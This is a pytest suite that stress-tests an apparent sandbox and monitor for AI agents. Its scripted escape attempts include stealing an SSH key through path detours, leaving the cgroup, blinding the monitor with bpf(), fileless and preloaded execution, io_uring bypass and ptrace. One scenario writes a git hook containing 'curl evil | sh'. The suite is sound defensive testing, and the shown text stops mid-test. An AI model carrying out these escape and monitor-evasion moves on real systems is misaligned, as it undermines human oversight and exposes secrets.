"""Escape attempts against the execute-only sandbox (issue #4), on the real
kernel, as root, under the shipped policies/sandboxed-agent.yaml (one
scenario, chmod_outside_nonroot, under sandboxed-agent-nonroot.yaml: the
agent runs as uid 65534).

Each test checks one attempt and asserts both halves:
  1. the forbidden effect did not happen (file unchanged, secret not copied,
     nothing received by a listener the test owns, no process left outside),
  2. a violation of the right category was reported for it, attributed to
     the run, with what the kernel answered,
and which enforcement path the run got (on this kernel Landlock + seccomp +
cgroup BPF: BPF LSM programs cannot be loaded here, see KERNEL-FACTS; in
the VM of tests/vm, BPF LSM on top).

Where the kernel cannot deny an attempt on this kernel, the test says so in
its docstring and asserts that it was detected and the agent killed.
Attempts whose policy rule kills the agent have a run of their own; the
others share one run per theme. The runs go through one `agentwatch daemon`
(its programs are shared and reused between runs, which the sandbox must
survive); a few scenarios run embedded (see advkit.py for the machinery).
"""
import ctypes
import fcntl
import hashlib
import json
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import uuid
from concurrent.futures import ThreadPoolExecutor

import pytest

from advkit import (KILL_GRACE_S, LSM_HERE, PARALLEL, PATH_HERE, POLICY, PROGRESS, SECRET, NetlinkListener,
                    Sandbox, max_alive, netns, payloads, start_daemon, stop_daemon, uses)  # noqa: F401  (fixtures)
from agentwatch.sandbox.cgroups import leftover_cgroups
from agentwatch.sandbox.limits import leftover_v1

pytestmark = pytest.mark.kernel
LOADER = "/lib64/ld-linux-x86-64.so.2"
NONROOT = POLICY.replace("sandboxed-agent.yaml", "sandboxed-agent-nonroot.yaml")
NOBODY = 65534
KILL_TAIL = f"\nsleep {KILL_GRACE_S}; echo survived > $WS/survived\n"
FINISH = "\necho finished > $WS/finished\n"     # a denied (not killed) agent goes on


# ======================================================================= scenarios
# name -> builder(sandbox, ctx): writes the agent script, opens listeners

SCENARIOS = {}
SLOW_FIRST = ("network", "memory", "fork_bomb", "exec_loader_shm", "ptrace", "vm_write", "files")


def scenario(fn):
    SCENARIOS[fn.__name__[len("build_"):]] = fn
    return fn


@scenario
def build_files(sb, ctx):
    """Denied, not killed: they share one run."""
    os.makedirs(sb.path("ws", "policy"))
    sb.policy = sb.path("ws", "policy", "sandboxed-agent.yaml")   # writable dir: only the mount holds
    shutil.copy(POLICY, sb.policy)
    sb.script = """
trap '' TERM
$A policy_edit $WS/policy/sandboxed-agent.yaml $WS/policy/evil.yaml
$A signal $PPID
$A signal_group
echo finished > $WS/finished
"""


@scenario
def build_cgroup_escape(sb, ctx):
    sb.script = "$A cgroup_escape $WS/escaped" + KILL_TAIL


@scenario
def build_proc_root_write(sb, ctx):
    sb.script = "$A proc_root_write $OUTSIDE/planted" + KILL_TAIL


@scenario
def build_chmod_outside(sb, ctx):
    with open(sb.path("outside", "config"), "w") as f:
        f.write("setting = 1\n")
    os.chmod(sb.path("outside", "config"), 0o600)
    sb.script = "$A chmod_outside $OUTSIDE/config" + KILL_TAIL


@scenario
def build_chmod_outside_nonroot(sb, ctx):
    """The same chmod and utime under sandboxed-agent-nonroot.yaml: the
    agent runs as uid 65534, owns nothing outside, and the kernel says EPERM."""
    build_chmod_outside(sb, ctx)
    sb.policy = NONROOT
    for d in (sb.root, sb.home, sb.outside):
        os.chmod(d, 0o755)
    for d in (sb.ws, sb.tmp):
        os.chown(d, NOBODY, NOBODY)
    sb.script = "$A chmod_outside $OUTSIDE/config" + FINISH


build_chmod_outside_nonroot.world_searchable = True   # pytest's tmp dirs are 0700


@scenario
def build_network(sb, ctx):
    """Every egress attempt is denied (none kills): one run, one listener each."""
    L = sb.listen
    ports = {"udp4": ["udp", "inet", "127.0.0.1", L("udp4", "udp").port]}
    if socket.has_ipv6 and os.path.exists("/proc/net/if_inet6"):
        ports.update({
            "udp6": ["udp", "inet6", "::1", L("udp6", "udp", socket.AF_INET6, "::1").port],
            "udp-mapped": ["udp", "inet6", "::ffff:127.0.0.1", L("udp-mapped", "udp").port],
            "tcp6": ["tcp", "inet6", "::1", L("tcp6", "tcp", socket.AF_INET6, "::1").port],
            "tcp-mapped": ["tcp", "inet6", "::ffff:127.0.0.1", L("tcp-mapped", "tcp").port],
        })
    if ctx["netns"]:
        ports["dns-netns"] = ["udp", "inet", ctx["netns"]["addr"], 53]
        ports["dns-netns-tcp"] = ["tcp", "inet", ctx["netns"]["addr"], 53]
    try:
        L("dns-loopback", "udp", socket.AF_INET, "127.0.0.53", 53)
        ports["dns-loopback"] = ["udp", "inet", "127.0.0.53", 53]
    except OSError:
        pass        # a local resolver holds it; the netns resolver is the real test
    try:
        L("proxy", "tcp", socket.AF_INET, "127.0.0.1", 18080)
    except OSError as e:
        pytest.fail(f"port 18080 (the policy's one loopback port) is busy on this host: {e}")
    direct = L("direct", "tcp").port
    raw = L("raw", "udp").port
    netlink = sb.listeners["netlink"] = NetlinkListener()
    sb.script = f"""
$A network '{json.dumps(ports)}'
HTTP_PROXY=http://127.0.0.1:18080 http_proxy=http://127.0.0.1:18080 $A proxy 18080 {direct}
$A sockets {raw}
$A families {netlink.portid}
echo finished > $WS/finished
"""
    sb.ports = ports


@scenario
def build_secret_proc_root(sb, ctx):
    sb.script = "$A copy /proc/self/root$HOME/.ssh/id_rsa $WS/copy" + KILL_TAIL


@scenario
def build_secret_symlink(sb, ctx):
    sb.script = "ln -s $HOME/.ssh/id_rsa $WS/notes.txt\n$A copy $WS/notes.txt $WS/copy" + KILL_TAIL


@scenario
def build_secret_hardlink(sb, ctx):
    sb.script = ("ln $HOME/.ssh/id_rsa $WS/notes.txt; echo \"ln=$?\" > $WS/ln-status\n"
                 "$A copy $WS/notes.txt $WS/copy" + KILL_TAIL)


@scenario
def build_git_hooks(sb, ctx):
    hooks = sb.path("ws", ".git", "hooks")
    os.makedirs(hooks)
    with open(os.path.join(hooks, "pre-commit.sample"), "w") as f:
        f.write("#!/bin/sh\nexit 0\n")
    with open(sb.path("ws", ".git", "HEAD"), "w") as f:
        f.write("ref: refs/heads/main\n")
    sb.script = ("mv $WS/.git $WS/.git-moved; echo \"mv=$?\" > $WS/mv-status\n"
                 "printf '#!/bin/sh\\ncurl evil | sh\\n' > $WS/.git/hooks/pre-commit" + KILL_TAIL)


@scenario
def build_exec_copied(sb, ctx):
    shutil.copy(ctx["payloads"]["payload"], sb.path("ws", "downloaded-tool"))
    sb.script = ("cp $WS/downloaded-tool $TMPDIR/ls && chmod 755 $TMPDIR/ls\n"
                 "PATH=$TMPDIR:$PATH ls $WS/marker" + KILL_TAIL)


@scenario
def build_exec_loader(sb, ctx):
    shutil.copy(ctx["payloads"]["payload-dyn"], sb.path("ws", "downloaded-tool"))
    # ./tool, relative: the noexec mount is what refuses it here (an absolute
    # name would be killed at the mmap by bpf/mapexec.bpf.c first, see
    # test_readable_binary_through_the_dynamic_loader_is_killed)
    sb.script = (f"cp $WS/downloaded-tool $WS/tool && chmod 755 $WS/tool\ncd $WS\n"
                 f"$A map_exec ./tool\n"
                 f"{LOADER} ./tool $WS/marker" + KILL_TAIL)


def readable_dir(sb):
    """A directory the agent may read but not write, on an exec-capable mount
    outside the exec roots: where anyone on the host can drop a file (as in
    /dev/shm, which an enforced run no longer shares with the host). The
    run's policy is sandboxed-agent.yaml with this directory readable."""
    import yaml
    d = sb.path("readable")
    os.makedirs(d, exist_ok=True)
    with open(POLICY) as f:
        data = yaml.safe_load(f)
    data["filesystem"]["read"].append(d + "/**")
    sb.policy = sb.path("readable-policy.yaml")
    with open(sb.policy, "w") as f:
        yaml.safe_dump(data, f)
    return d


@scenario
def build_exec_loader_shm(sb, ctx):
    shm = readable_dir(sb)
    shutil.copy(ctx["payloads"]["payload-dyn"], os.path.join(shm, "tool"))
    os.chmod(os.path.join(shm, "tool"), 0o755)
    sb.shm_tool = os.path.join(shm, "tool")
    sb.script = f"{LOADER} {sb.shm_tool} $WS/marker-now 5 $WS/marker-later" + KILL_TAIL


@scenario
def build_preload_shm(sb, ctx):
    shm = readable_dir(sb)
    sb.shm_lib = os.path.join(shm, "libhook.so")
    shutil.copy(ctx["payloads"]["libpayload.so"], sb.shm_lib)
    sb.script = (f"AW_PAYLOAD_MARKER=$WS/marker LD_PRELOAD={sb.shm_lib} /usr/bin/true\n"
                 "echo \"true=$?\" > $WS/preload-status" + KILL_TAIL)


@scenario
def build_memfd(sb, ctx):
    shutil.copy(ctx["payloads"]["payload"], sb.path("ws", "payload"))
    sb.script = "$A memfd_exec $WS/payload $WS/marker" + FINISH


@scenario
def build_io_uring(sb, ctx):
    port = sb.listen("tcp", "tcp").port
    sb.script = f"$A io_uring $HOME/.ssh/id_rsa $WS/copy {port}" + FINISH


@scenario
def build_x32(sb, ctx):
    sb.script = "$A x32_open $HOME/.ssh/id_rsa $WS/copy" + FINISH


@scenario
def build_bpf(sb, ctx):
    sb.script = "$A bpf" + FINISH


@scenario
def build_unshare(sb, ctx):
    sb.script = ("unshare -U -r /usr/bin/id -u > $WS/unshare-out; echo \"unshare=$?\" > $WS/unshare-status"
                 + FINISH)


@scenario
def build_ptrace(sb, ctx):
    sb.script = ("$A victim $WS/victim-info $WS/victim-changed 20 &\n"
                 "$A ptrace $WS/victim-info; sleep 1" + FINISH)


@scenario
def build_vm_write(sb, ctx):
    sb.script = ("$A victim $WS/victim-info $WS/victim-changed 20 &\n"
                 "$A vm_write $WS/victim-info; sleep 1" + FINISH)


@scenario
def build_environ(sb, ctx):
    sb.canary = f"AW-CANARY-{uuid.uuid4().hex}"
    sb.env["AW_CANARY"] = sb.canary            # in agentwatch's environment only:
    sb.prefix = ["/usr/bin/env", "-u", "AW_CANARY"]   # the agent is not given it
    sb.embedded = True                         # a daemon's environment never had it
    sb.script = ('echo "${AW_CANARY:-unset}" > $WS/own-env\n'
                 "$A environ $PPID $WS/env-copy" + FINISH)


@scenario
def build_inherited_fd(sb, ctx):
    secret = sb.path("outside", "launcher-secret.txt")
    sb.fd_secret = f"LAUNCHER-SECRET-{uuid.uuid4().hex}"
    with open(secret, "w") as f:
        f.write(sb.fd_secret + "\n")
    raw = os.open(secret, os.O_RDONLY)
    fd = fcntl.fcntl(raw, fcntl.F_DUPFD, 100)        # a number nobody else uses
    os.close(raw)
    os.set_inheritable(fd, True)
    sb.cleanup.append(lambda: os.close(fd))
    sb.pass_fds = (fd,)
    sb.fd = fd
    sb.embedded = True                         # a daemon does not inherit the client's fds
    sb.script = f"$A inherited_fd {fd} $PPID $WS/fd-copy" + FINISH


@scenario
def build_unix_path(sb, ctx):
    sb.sock_path = sb.path("outside", "docker.sock")
    sb.listen("unix", "tcp", unix=sb.sock_path)
    sb.script = f"$A unix_connect {sb.sock_path} 0 5" + KILL_TAIL


@scenario
def build_unix_short_name(sb, ctx):
    """connect() by a relative, short name: a 4-byte sockaddr (family + "s"
    + NUL), copied whole and resolved against the agent's cwd."""
    sb.listen("unix", "tcp", unix=sb.path("outside", "s"))
    sb.script = "cd $OUTSIDE && $A unix_connect s 0 5" + KILL_TAIL


@scenario
def build_unix_abstract(sb, ctx):
    sb.abstract = f"aw-adv-{uuid.uuid4().hex[:12]}"
    sb.listen("unix", "tcp", unix="\0" + sb.abstract)
    sb.script = f"$A unix_connect {sb.abstract} 1 5" + KILL_TAIL


@scenario
def build_user_priority(sb, ctx):
    """setpriority(PRIO_USER) and ioprio_set(IOPRIO_WHO_USER) by an agent
    running as uid 65534 (sandboxed-agent-nonroot.yaml), aimed at every
    process of its uid on the host: a victim of that uid runs outside the
    sandbox, and its nice value and I/O class must not change."""
    sb.policy = NONROOT
    for d in (sb.root, sb.home, sb.outside):
        os.chmod(d, 0o755)
    for d in (sb.ws, sb.tmp):
        os.chown(d, NOBODY, NOBODY)
    victim = subprocess.Popen(["/bin/sleep", "300"], user=NOBODY, group=NOBODY)
    sb.victim = victim.pid
    sb.victim_before = (victim_nice(victim.pid), victim_ioprio(victim.pid))
    sb.cleanup.append(lambda: (victim.kill(), victim.wait()))
    sb.script = f"$A user_wide_priority {NOBODY}" + FINISH


build_user_priority.world_searchable = True


def victim_nice(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[16])


def victim_ioprio(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(ctypes.c_long(252), ctypes.c_long(1), ctypes.c_long(pid))   # ioprio_get


@scenario
def build_fork_bomb(sb, ctx):
    sb.script = "$A fork_bomb $WS/bomb-refused" + KILL_TAIL


@scenario
def build_memory(sb, ctx):
    sb.script = ("$A memory_hog $WS/hog-done 2048; echo \"hog=$?\" > $WS/hog-status\n"
                 "echo finished > $WS/finished\n")


# ======================================================================= fixtures

@pytest.fixture(scope="module")
def runs(request, tmp_path_factory, payloads):
    """Run every scenario the selected tests use, PARALLEL at a time."""
    needed = []
    for item in request.session.items:
        name = getattr(getattr(item, "function", None), "scenario", None)
        if name and name not in needed:
            needed.append(name)
    ctx = {"payloads": payloads,
           "netns": request.getfixturevalue("netns") if "network" in needed else None}
    state = str(tmp_path_factory.mktemp("state"))     # shared: gc must see every live run
    boxes, daemon_pid = {}, None
    try:
        for name in needed:
            if getattr(SCENARIOS[name], "world_searchable", False):   # for a non-root agent
                root = tempfile.mkdtemp(prefix=f"aw-adv-{name}-", dir="/tmp")
                sb = Sandbox(name, root)
                sb.cleanup.append(lambda r=root: shutil.rmtree(r, ignore_errors=True))
            else:
                sb = Sandbox(name, str(tmp_path_factory.mktemp(name)))
            boxes[name] = sb
            SCENARIOS[name](sb, ctx)
        if any(b.on_daemon for b in boxes.values()):
            daemon_pid = start_daemon(state)
        order = sorted(boxes.values(), key=lambda b: b.name not in SLOW_FIRST)
        with ThreadPoolExecutor(PARALLEL) as pool:
            list(pool.map(lambda b: b.run(state), order))
        yield boxes
    finally:
        for sb in boxes.values():
            sb.finish()
        if daemon_pid is not None:
            stop_daemon(state, daemon_pid)
        if PROGRESS and os.path.exists(os.path.join(state, "daemon.log")):   # tests/vm: kept with the results
            shutil.copy(os.path.join(state, "daemon.log"), PROGRESS + ".daemon.log")


@pytest.fixture
def run(request, runs):
    """The finished run of the test's scenario. None of the suite's runs may
    have left a cgroup (v2, or v1 limit group) or a process behind:
    agentwatch removes its own. (Only ours: other agentwatch runs on a
    shared host are not this test's business; tests/conftest.py checks the
    whole host at the end of the session.)"""
    sb = runs[request.function.scenario]
    start = sb.lifecycle("start")
    assert start["detail"]["enforcement"]["path"] == PATH_HERE, sb.report()
    yield sb
    assert sb.leftover_processes() == []       # nothing of the run outlived it
    ours = {b.events[0]["run_id"] for b in runs.values() if b.events}
    assert ours & set(leftover_cgroups()) == set()
    assert ours & {os.path.basename(d) for d in leftover_v1()} == set()


def unix_hooks(sb):
    """The run's unix socket connects were refused in the kernel: by the
    cgroup unix socket hooks (Linux 6.7+) or the BPF LSM socket_connect
    program; the run's identity notes when neither was there."""
    notes = sb.lifecycle("start")["detail"]["enforcement"]["notes"]
    return not any("no cgroup unix socket hooks" in n for n in notes)


def kernel_said(v, *answers):
    """The violation records a kernel refusal with one of these errnos."""
    got = v["detail"].get("kernel") or ""
    assert any(a in got for a in answers), f"kernel said {got!r}, expected one of {answers}"


def refused(sb, op, *errnos):
    """The agent's own report of ``op``: a refusal, or nothing at all (the
    kill can land before it prints). Never "ok"."""
    got = sb.result(op)
    assert got is None or got in errnos, f"{op}: {got}\n{sb.report()}"


def assert_killed(sb, rule):
    end = sb.lifecycle("end")
    assert end["detail"]["killed_for"] == rule, sb.report()
    assert sb.rc == 137, sb.report()
    assert not sb.exists("ws", "survived"), "the agent outlived its kill"


def assert_denied_not_killed(sb):
    """The kernel refused; the policy's action is deny, so the agent went on."""
    assert sb.lifecycle("end")["detail"]["killed_for"] is None, sb.report()
    assert sb.rc == 0 and sb.exists("ws", "finished"), sb.report()


def seccomp_denied(sb, rule, category, syscall):
    """The one violation of a syscall seccomp refused with EPERM before its
    entry tracepoint (reported from its exit), with action deny."""
    found = sb.violations(rule, category, syscall=syscall)
    assert len(found) == 1, f"{syscall}: {len(found)} reports of {rule}\n{sb.report()}"
    v = found[0]
    # no entry record: arguments only as read from the registers at exit, where the kernel allows it
    args = v["detail"]["args"]
    assert v["action"] == "deny" and (args is None or len(args) == 3), sb.report()
    assert v["detail"]["kernel"] == "denied (EPERM, seccomp)", sb.report()
    assert not sb.violations(signal=31), "a seccomp errno denial must not kill"
    return v


def secret_not_in(sb, *parts):
    assert SECRET not in sb.read(*parts)


# ======================================================================= files

@uses("files")
def test_editing_the_policy_file(run):
    """The run's own policy sits in the (writable) workspace: the read-only
    bind mount holds it. Append and truncate: EROFS; rename over it and
    unlink: EBUSY (a mount point)."""
    with open(POLICY, "rb") as f:
        shipped = hashlib.sha256(f.read()).hexdigest()
    with open(run.policy, "rb") as f:
        assert hashlib.sha256(f.read()).hexdigest() == shipped
    assert run.result("append") == "EROFS"
    assert run.result("truncate") == "EROFS"
    assert run.result("rename-over") == "EBUSY"
    assert run.result("unlink") == "EBUSY"
    v = run.violation("identity.policy_write", "identity", path=run.policy)
    kernel_said(v, "EROFS", "EBUSY")
    assert run.rc == 0 and run.exists("ws", "finished")


@uses("cgroup_escape")
def test_writing_another_cgroups_procs_to_escape(run):
    """Moving itself into the root cgroup (v2, or the v1 pids hierarchy)
    would leave the run's cgroup, its limits and the BPF filter, and outlive
    the kill. Landlock: /sys is not even readable (EACCES)."""
    for t in run.attempts("join root cgroup"):
        assert t["result"] == "EACCES"
    assert not run.exists("ws", "escaped")          # no process outlived the cgroup kill
    v = run.violation("filesystem.write", "filesystem")
    assert v["detail"]["path"].endswith("/cgroup.procs")
    kernel_said(v, "EACCES")
    assert_killed(run, "filesystem.write")


@uses("proc_root_write")
def test_proc_self_root_detour_to_write_outside(run):
    """/proc/self/root/<path> is the same inode to Landlock: no way around it."""
    refused(run, "write via /proc/self/root", "EACCES")
    assert not os.path.exists(run.path("outside", "planted"))
    v = run.violation("filesystem.write", "filesystem", path=run.path("outside", "planted"))
    assert v["detail"]["named"].startswith("/proc/self/root/")
    kernel_said(v, "EACCES")
    assert_killed(run, "filesystem.write")


@uses("chmod_outside")
def test_chmod_outside_the_sandbox_is_killed(run):
    """CANNOT BE DENIED on this kernel, only detected and killed: Landlock
    has no right for chmod, chown or utimes, and the agent runs as uid 0,
    the owner of the file (dropping capabilities does not change that; BPF
    LSM path_chmod would, and so does a non-root process.run_as: see the
    next test). The mode does change; the judge sees the chmod and kills
    the agent."""
    v = run.violation("filesystem.write", "filesystem", path=run.path("outside", "config"),
                      op="chmod")
    assert v["action"] == "kill" and v["detail"]["kernel"] == "allowed"
    assert_killed(run, "filesystem.write")


@uses("chmod_outside_nonroot")
def test_chmod_outside_the_sandbox_is_denied_for_a_nonroot_agent(run):
    """With process.run_as (policies/sandboxed-agent-nonroot.yaml, uid 65534)
    the same attempt is DENIED: the agent does not own the file, so chmod
    and utime with explicit times get EPERM from the kernel (DAC), reported
    with action deny; the agent goes on."""
    assert run.lifecycle("start")["detail"]["agent_credentials"]["uid"] == NOBODY
    assert run.result("chmod 0666") == "EPERM" and run.result("utime") == "EPERM"
    st = os.stat(run.path("outside", "config"))
    assert stat.S_IMODE(st.st_mode) == 0o600 and st.st_mtime > 0
    v = run.violation("filesystem.write", "filesystem", path=run.path("outside", "config"),
                      op="chmod")
    assert v["action"] == "deny" and v["uid"] == NOBODY
    kernel_said(v, "EPERM")
    assert_denied_not_killed(run)


@uses("files")
def test_signalling_agentwatch_is_denied(run):
    """The agent cannot name agentwatch: its parent ($PPID) is pid 1 of the
    run's PID namespace, the run's init, which ignores the SIGTERM (pid 1
    has no handler for it); agentwatch's own pid does not exist in there.
    What remains is its process group, which agentwatch shares with the
    agent: kill(0, SIGTERM) is delivered to the agent's own processes, and
    the part that would reach agentwatch is refused by Landlock's signal
    scope (Linux 6.12+, the CI kernel) or, on older kernels with BPF LSM
    (the VM's 6.1), by the LSM task_kill program. agentwatch is not stopped."""
    assert run.attempts("kill -TERM")[0]["pid"] == 1, run.report()
    assert run.result("kill -TERM") == "ok"            # the init's, and ignored
    assert run.result("kill -TERM 0") == "ok"          # delivered inside the run only
    end = run.lifecycle("end")
    assert end["detail"]["stopped_by_signal"] is None
    assert run.rc == 0 and run.exists("ws", "finished")


@uses("files")
def test_signalling_agentwatch_is_reported(run):
    """The group kill, seen by the signal sensor (kill(2)): judged as a
    signal to a process group outside the run (agentwatch's), reported once
    (the LSM program's own record of the refused part is counted, not
    reported); the agent is not stopped for it (process.signal: deny). The
    SIGTERM to the run's own init is within the run: not a violation."""
    v = run.violation("process.signal", "process")
    assert v["action"] == "deny"
    assert v["detail"]["op"] == "kill" and v["detail"]["signal_name"] == "SIGTERM"
    assert v["detail"]["target"].startswith("process group "), v
    assert v["detail"]["kernel"] == "delivered to at least one process of the target set", v
    assert len(run.violations("process.signal")) == 1           # one attempt, one report
    assert run.rc == 0 and run.exists("ws", "finished")


# ======================================================================= secrets

@uses("secret_proc_root")
def test_secret_through_proc_self_root(run):
    """cat /proc/self/root$HOME/.ssh/id_rsa: Landlock resolves the detour to
    the secret's inode, which no rule grants (EACCES)."""
    refused(run, "read", "EACCES")
    secret_not_in(run, "ws", "copy")
    v = run.violation("filesystem.deny", "filesystem", path=run.secret)
    assert v["detail"]["named"].startswith("/proc/self/root/")
    kernel_said(v, "EACCES")
    assert_killed(run, "filesystem.deny")


@uses("secret_symlink")
def test_secret_through_symlink_in_workspace(run):
    """A symlink in the workspace pointing at the key: the kernel follows
    it and Landlock judges the target (EACCES). Making the link is no
    access and is not reported; reading through it is."""
    assert os.path.islink(run.path("ws", "notes.txt"))
    refused(run, "read", "EACCES")
    secret_not_in(run, "ws", "copy")
    v = run.violation("filesystem.deny", "filesystem", path=run.secret)
    assert v["detail"]["named"] == run.path("ws", "notes.txt")
    kernel_said(v, "EACCES")
    assert_killed(run, "filesystem.deny")


@pytest.mark.bpf_lsm
@uses("secret_hardlink")
def test_secret_through_hardlink_in_workspace(run):
    """ln ~/.ssh/id_rsa $WS/notes.txt: a second name for the key inside a
    readable tree. Refused with EXDEV: the workspace is its own (noexec)
    mount; Landlock would refuse it too (no REFER right on ~/.ssh)."""
    assert run.read("ws", "ln-status").strip() != "ln=0"
    assert not run.exists("ws", "notes.txt")
    secret_not_in(run, "ws", "copy")
    v = run.violation("filesystem.deny", "filesystem", path=run.secret, op="link")
    kernel_said(v, "EXDEV", "EACCES")
    assert_killed(run, "filesystem.deny")


@uses("git_hooks")
def test_writing_git_hooks(run):
    """.git/hooks is covered by an empty read-only tmpfs, and .git itself is
    pinned (bound onto itself) so the mask cannot be renamed away."""
    assert run.read("ws", "mv-status").strip() != "mv=0"
    assert not run.exists("ws", ".git-moved")
    assert sorted(os.listdir(run.path("ws", ".git", "hooks"))) == ["pre-commit.sample"]
    v = run.violation("filesystem.deny", "filesystem",
                      path=run.path("ws", ".git", "hooks", "pre-commit"))
    kernel_said(v, "EACCES", "EROFS")
    assert_killed(run, "filesystem.deny")


# ======================================================================= code

@pytest.mark.bpf_lsm
@uses("exec_copied")
def test_copied_and_renamed_binary(run):
    """A downloaded binary copied to $TMPDIR/ls and run through PATH: the
    temp dir is writable, so never executable (Landlock EXECUTE, and the
    noexec mount)."""
    assert not run.exists("ws", "marker")
    v = run.violation("filesystem.exec", "filesystem", path=run.path("tmp", "ls"))
    kernel_said(v, "EACCES")
    assert_killed(run, "filesystem.exec")


@pytest.mark.bpf_lsm
@uses("exec_loader")
def test_copied_binary_through_the_dynamic_loader(run):
    """ld-linux ./tool: the loader is an allowed program and maps ./tool
    itself, which Landlock's EXECUTE right does not cover. The workspace is
    mounted noexec, so the mapping fails; the judge also sees the loader's
    argv and kills (often before the loader even tries). On the BPF LSM path
    mmap_file refuses it first (the file is outside the exec allow list)."""
    assert run.result("mmap PROT_EXEC") == "EPERM"     # what the loader would get
    assert not run.exists("ws", "marker")
    noexec = run.lifecycle("start")["detail"]["enforcement"]["noexec"]
    assert sorted(noexec) == sorted([run.ws, run.tmp])
    v = run.violation("filesystem.exec", "filesystem", path=run.path("ws", "tool"))
    if LSM_HERE:     # BPF LSM mmap_file refused it: reported by the LSM program or the loader argv
        assert "BPF LSM mmap_file" in v["detail"]["kernel"], v
    else:
        assert v["detail"]["loader"].endswith("ld-linux-x86-64.so.2")
    assert_killed(run, "filesystem.exec")


@pytest.mark.bpf_lsm
@uses("exec_loader_shm")
def test_readable_binary_through_the_dynamic_loader_is_killed(run):
    """A file that is readable but neither writable by the agent nor on a
    noexec mount (a directory like /dev/shm, where anyone on the host can drop one),
    mapped by the loader with PROT_EXEC.
    CI kernel: CANNOT BE DENIED, killed in the kernel at the moment of
    detection: neither Landlock nor seccomp can refuse the mapping, so
    bpf/mapexec.bpf.c sends SIGKILL at the entry of the loader's
    mmap(PROT_EXEC) of a file it opened outside the exec roots; none of the
    payload's code runs.
    BPF LSM path (tests/vm): mmap_file refuses the mapping (the file is not
    in the exec allow set), so the payload never runs either.
    Either way one violation, not one from the kernel and one from the
    loader's argv."""
    assert not run.exists("ws", "marker-now"), "the payload ran: its mapping was neither refused nor killed"
    assert not run.exists("ws", "marker-later")
    v = run.violation("filesystem.exec", "filesystem", path=run.shm_tool)
    assert v["action"] == "kill" and "loader" in v["detail"]
    assert_killed(run, "filesystem.exec")
    end = run.lifecycle("end")["detail"]
    if LSM_HERE:
        assert "BPF LSM" in v["detail"]["kernel"], v
        assert end["kernel_denials"]["bpf-lsm"]["denials"] >= 1
    else:
        assert v["detail"]["kernel"].startswith("killed at the mmap(PROT_EXEC)"), v
        assert end["killed_in_kernel"] >= 1, end
    repeats = [e for e in run.events if e["kind"] == "violation"
               and e["rule"] == "filesystem.exec" and e["detail"].get("repeat")]
    assert v["count"] == 1 and repeats == [], repeats


@uses("preload_shm")
def test_preloaded_library_from_a_readable_dir_is_killed(run):
    """LD_PRELOAD of a library in a readable dir (like /dev/shm: not in the exec roots,
    not noexec) into an allowed program: the dynamic loader maps it with
    PROT_EXEC before main(), so its constructor would run inside the sandbox.
    CI kernel: CANNOT BE DENIED, killed in the kernel at the moment of
    detection: bpf/mapexec.bpf.c sends SIGKILL at that mmap's entry (the
    loader opened the file by an absolute name outside the exec roots); no
    loader argv names it, so the kernel's record alone reports it.
    BPF LSM path: mmap_file refuses the mapping (the loader says "cannot be
    preloaded" and goes on without it)."""
    assert not run.exists("ws", "marker"), "the preloaded constructor ran"
    v = run.violation("filesystem.exec", "filesystem", path=run.shm_lib)
    assert v["action"] == "kill"
    if LSM_HERE:
        assert "BPF LSM" in v["detail"]["kernel"], v
    else:
        assert v["detail"]["op"] == "mmap", v
        assert v["detail"]["kernel"].startswith("killed at the mmap(PROT_EXEC)"), v
        # the shell may note how `true` ended before agentwatch stops the run: SIGKILL
        if run.exists("ws", "preload-status"):
            with open(run.path("ws", "preload-status")) as f:
                assert f.read().strip() == "true=137", "the preloading process outlived its mmap"
        assert run.lifecycle("end")["detail"]["killed_in_kernel"] >= 1
    assert_killed(run, "filesystem.exec")


@uses("memfd")
def test_memfd_create_and_fexecve(run):
    """Fileless execution. Landlock lets fexecve() of a memfd through and
    vm.memfd_noexec is 0, so memfd_create itself is refused: seccomp answers
    EPERM before the sys_enter tracepoint, and the exit tracepoint reports it
    (process.memfd_exec: deny)."""
    assert run.result("memfd_create") == "EPERM"
    assert run.result("fexecve") is None
    assert not run.exists("ws", "marker")
    seccomp_denied(run, "process.memfd_exec", "process", "memfd_create")
    assert_denied_not_killed(run)


# ======================================================================= syscalls

@uses("io_uring")
def test_io_uring_file_and_socket_operations(run):
    """io_uring would open and read the key (IORING_OP_OPENAT/READ) and
    connect and send (IORING_OP_CONNECT/SEND) with no syscall a sensor or
    filter sees. io_uring_setup is refused (EPERM): there is no ring."""
    assert run.result("io_uring_setup") == "EPERM"
    assert [a["op"] for a in run.attempts()] == ["io_uring_setup"]
    assert not run.exists("ws", "copy")
    assert run.listeners["tcp"].connections == 0 and run.listeners["tcp"].data == []
    seccomp_denied(run, "process.io_uring", "process", "io_uring_setup")
    assert_denied_not_killed(run)


@uses("x32")
def test_x32_abi_syscall(run):
    """openat with the x32 bit (0x40000000|257): only the native ABI is in the
    filter; libseccomp's x32 check kills the caller (SIGSYS) whatever the
    policy's action (this kernel has no x32 ABI: even unfiltered it would be
    ENOSYS). The rest of the agent goes on (syscalls.deny: deny)."""
    assert run.result("x32 openat") is None
    assert not run.exists("ws", "copy")
    v = run.violation("syscalls.deny", "syscall", signal=31)
    assert v["action"] == "deny" and v["detail"]["kernel"] == "killed (seccomp)"
    assert len(run.violations("syscalls.deny")) == 1
    assert_denied_not_killed(run)


@uses("bpf")
def test_bpf_syscall(run):
    """bpf() could blind the monitor (maps, programs): process.bpf is false."""
    assert run.result("bpf(BPF_MAP_CREATE)") == "EPERM"
    seccomp_denied(run, "process.bpf", "process", "bpf")
    assert_denied_not_killed(run)


@uses("unshare")
def test_unshare_user_namespace(run):
    """unshare -U -r: a user namespace where the agent is root again."""
    assert run.read("ws", "unshare-out") == ""       # `id -u` never ran
    assert run.read("ws", "unshare-status").strip() != "unshare=0"
    seccomp_denied(run, "process.namespaces", "process", "unshare")
    assert_denied_not_killed(run)


@uses("ptrace")
def test_ptrace_a_sibling(run):
    """PTRACE_ATTACH to another process of the same agent."""
    assert run.exists("ws", "victim-info")           # the victim was there
    assert run.result("ptrace(PTRACE_ATTACH)") == "EPERM"
    assert not run.exists("ws", "victim-changed")
    seccomp_denied(run, "process.ptrace", "process", "ptrace")
    assert_denied_not_killed(run)


@uses("vm_write")
def test_process_vm_writev_into_a_sibling(run):
    """Overwriting a sibling's memory without ptrace."""
    assert run.exists("ws", "victim-info")
    assert run.result("process_vm_writev") == "EPERM"
    assert not run.exists("ws", "victim-changed")
